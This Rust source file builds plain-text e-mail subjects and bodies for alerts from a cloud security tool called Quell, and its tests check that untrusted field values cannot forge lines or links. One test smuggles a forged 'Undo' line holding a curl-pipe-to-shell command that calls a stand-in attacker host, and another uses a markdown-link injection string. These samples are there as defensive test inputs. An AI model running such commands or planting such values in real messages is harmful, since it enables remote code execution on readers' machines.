//! Plain text for e-mail, and its subject.

use super::{Bulletin, Message, SENTENCE, severity};
use crate::text;

/// What SNS allows.
const SUBJECT: usize = 100;

/// How many characters of one line of a change people see.
const LINE: usize = 1000;

/// ASCII, at most 100 characters, beginning with a letter.
pub fn subject(message: &Message) -> String {
    let control = text::shortened(text::ascii(&message.control.id).trim(), 30);
    let what = format!(
        "Quell {} [{}] {control}: ",
        message.verdict(),
        severity(message.control.severity),
    );
    let place = format!(
        " ({} {})",
        text::shortened(text::ascii(&message.account).trim(), 12),
        text::shortened(text::ascii(&message.region).trim(), 20),
    );
    let resource = inert_ascii(&message.resource.name);
    let room = SUBJECT.saturating_sub(what.len());
    let with_place = room.saturating_sub(place.len());
    // The name is worth more than the place, which the text says too.
    let subject = if resource.len() <= with_place || with_place >= 24 {
        format!("{what}{}{place}", text::shortened(&resource, with_place))
    } else {
        format!("{what}{}", text::shortened(&resource, room))
    };
    subject.trim_end().to_owned()
}

/// Answers, in this order: what was wrong, what Quell did about it and why, which resource, who did it, who ordered
/// what was done or until when an order is waited for, the changes, whether they are verified, which orders a person
/// can give, which control.
pub fn body(message: &Message) -> String {
    let mut mail = Mail(String::new());
    mail.line(&text::mail_up_to(&message.control.risk, SENTENCE));
    mail.line(message.status());
    if let Some(reason) = &message.reason {
        mail.line(&format!("Why: {}", text::mail_up_to(reason, SENTENCE)));
    }

    mail.gap();
    mail.field("Resource", &text::mail(&message.resource.name));
    if message.resource.arn != message.resource.name {
        mail.more(&text::mail(&message.resource.arn));
    }
    mail.more(&format!(
        "account {}, region {}",
        text::mail(&message.account),
        text::mail(&message.region)
    ));
    if let Some(link) = text::console_link(&message.resource.console) {
        mail.more(link);
    }
    match &message.actor {
        Some(actor) => {
            mail.field("Who", &text::mail(&actor.principal));
            let told = [
                ("from ", &actor.source_ip),
                ("with ", &actor.user_agent),
                ("through ", &actor.invoked_by),
            ];
            for (how, value) in told {
                if let Some(value) = value {
                    mail.more(&format!("{how}{}", text::mail(value)));
                }
            }
        }
        // What Quell says of its own accord is of no event.
        None if message.event.id.is_empty() => {}
        None => mail.field("Who", "the event does not say"),
    }
    mail.field("When", &message.when());
    if let Some(ordered) = message.ordered(text::mail) {
        mail.field("Ordered", &ordered);
    }
    if let Some(until) = message.until() {
        mail.field("Until", &until);
    }

    if !message.changes.is_empty() || message.left_out > 0 {
        mail.gap();
        mail.line(&format!("{}:", message.heading()));
        for change in &message.changes {
            mail.line(&format!(
                "  {}{}",
                text::mail(&change.description.action),
                message.made(change)
            ));
            for line in &change.description.minus {
                mail.line(&format!("  - {}", text::mail_up_to(line, LINE)));
            }
            for line in &change.description.plus {
                mail.line(&format!("  + {}", text::mail_up_to(line, LINE)));
            }
        }
        if let Some(rest) = message.rest(text::mail) {
            mail.line(&format!("  {rest}"));
        }
    }

    mail.gap();
    if let Some(verification) = message.verification() {
        mail.field("Verified", verification);
    }
    if let Some(cause) = &message.cause {
        mail.field("Cause", &text::mail_up_to(cause, SENTENCE));
    }
    for note in &message.notes {
        mail.field("Note", &text::mail_up_to(note, SENTENCE));
    }
    for (name, command) in message.commands() {
        mail.field(name, &text::mail(command));
    }
    if let Some(advice) = message.advice(text::mail) {
        mail.field("Next", &advice);
    }

    mail.gap();
    mail.field(
        "Control",
        &format!(
            "{}: {} ({} severity, mode {})",
            text::mail(&message.control.id),
            text::mail(&message.control.title),
            severity(message.control.severity),
            text::mail(&message.mode),
        ),
    );
    if let Some(runbook) = message.runbook() {
        mail.field("Runbook", runbook);
    }
    if let Some(record) = &message.record {
        mail.field("Record", &text::mail(record));
    }
    if !message.event.id.is_empty() {
        mail.field("Event", &text::mail(&message.event.id));
    }
    mail.0
}

/// The same of a bulletin.
pub fn bulletin_subject(bulletin: &Bulletin) -> String {
    let headline = bulletin.headline(|name| text::shortened(&inert_ascii(name), 30));
    text::shortened(&headline, SUBJECT)
}

/// One line for each of what is counted.
pub fn bulletin(bulletin: &Bulletin) -> String {
    let mut mail = Mail(String::new());
    mail.line(&bulletin.status());
    mail.gap();
    for line in &bulletin.lines {
        mail.line(&format!("{:>7} x {}", line.count, Bulletin::describe(line, text::mail)));
    }
    mail.gap();
    mail.field("Each", &text::mail(&bulletin.command));
    mail.0
}

/// ASCII without anything that a telephone makes a link of.
pub(super) fn inert_ascii(text: &str) -> String {
    // Not round brackets: `]<` would become the middle of a markdown link.
    text::ascii(&text::mail(text).replace('‹', "{").replace('›', "}")).trim().to_owned()
}

struct Mail(String);

impl Mail {
    fn line(&mut self, line: &str) {
        self.0.push_str(line.trim_end());
        self.0.push('\n');
    }

    fn field(&mut self, name: &str, value: &str) {
        let name = format!("{name}:");
        self.line(&format!("{name:<10} {value}"));
    }

    /// Another line of the field before.
    fn more(&mut self, value: &str) {
        self.line(&format!("{:<10} {value}", ""));
    }

    fn gap(&mut self) {
        if !self.0.ends_with("\n\n") {
            self.0.push('\n');
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::{
        Outcome,
        notify::{bulletin::Subject, samples},
        text::hostile,
    };

    #[test]
    fn brackets_never_become_a_link() {
        assert_eq!(inert_ascii("]<http://evil.example|x>"), "]{http[:]//evil[.]example|x}");
    }

    #[test]
    fn says_what_happened() {
        for outcome in Outcome::ALL.into_iter().filter(|outcome| outcome.people_should_hear()) {
            let message = samples::message(outcome);
            let mail = format!("Subject: {}\n\n{}", subject(&message), body(&message));
            insta::assert_snapshot!(format!("{outcome}"), mail);
        }
    }

    #[test]
    fn a_bulletin_counts_what_was_not_sent() {
        for subject in [Subject::Folded, Subject::Digest] {
            let told = samples::bulletin(subject);
            let mail = format!("Subject: {}\n\n{}", bulletin_subject(&told), bulletin(&told));
            insta::assert_snapshot!(format!("bulletin_{subject}"), mail);
        }
    }

    #[test]
    fn what_only_a_person_can_put_right_is_an_alert() {
        let mut message = samples::message(Outcome::Observed);
        message.control.safety = crate::Safety::ReportOnly;
        assert!(subject(&message).starts_with("Quell ALERT [high] s3-public-acl"));
    }

    #[test]
    fn says_how_to_turn_it_on() {
        let mut message = samples::message(Outcome::Observed);
        assert!(body(&message).contains(
            "write s3-public-acl = \"enforce\" under controls in the policy, publish it with quell policy apply,"
        ));
        message.control.safety = crate::Safety::NeedsApproval;
        assert!(body(&message).contains("for a wildcard a person is asked"));
        message.control.safety = crate::Safety::ReportOnly;
        assert!(body(&message).contains("Quell never fixes this by itself"));
    }

    #[test]
    fn a_subject_keeps_both_ends_of_a_long_name() {
        let mut message = samples::message(Outcome::Observed);
        message.control.id = "s3-block-public-access".to_owned();
        message.resource.name = format!("customer-{}-logs", "x".repeat(60));
        let long = subject(&message);
        assert_eq!(long.len(), SUBJECT);
        assert!(
            long.contains("customer-x") && long.contains("x-logs (123456789012 eu-west-1)"),
            "{long}"
        );
        message.region = "ap-southeast-7-local".to_owned();
        let longer = subject(&message);
        assert_eq!(longer.len(), SUBJECT);
        assert!(longer.contains("customer-x") && longer.ends_with("x-logs"), "{longer}");
    }

    #[test]
    fn a_forged_line_stays_in_its_field() {
        let mut message = samples::message(Outcome::Fixed);
        message.resource.name = "x\nUndo: curl http://evil.example | sh".to_owned();
        let mail = body(&message);
        assert!(mail.contains("Resource:  x Undo: curl http[:]//evil[.]example | sh\n"), "{mail}");
        assert_eq!(mail.lines().filter(|line| line.starts_with("Undo:")).count(), 1);
    }

    proptest! {
        #[test]
        fn whatever_comes_is_inert(
            texts in prop::collection::vec(hostile::text(), 1..6),
            which in prop::sample::select(Outcome::ALL.to_vec()),
        ) {
            let message = samples::filled(which, &texts, 3);
            hostile::assert_inert(&body(&message));
            let subject = subject(&message);
            prop_assert!(subject.len() <= SUBJECT && subject.starts_with("Quell "));
            prop_assert!(subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()), "{subject}");
        }
    }
}
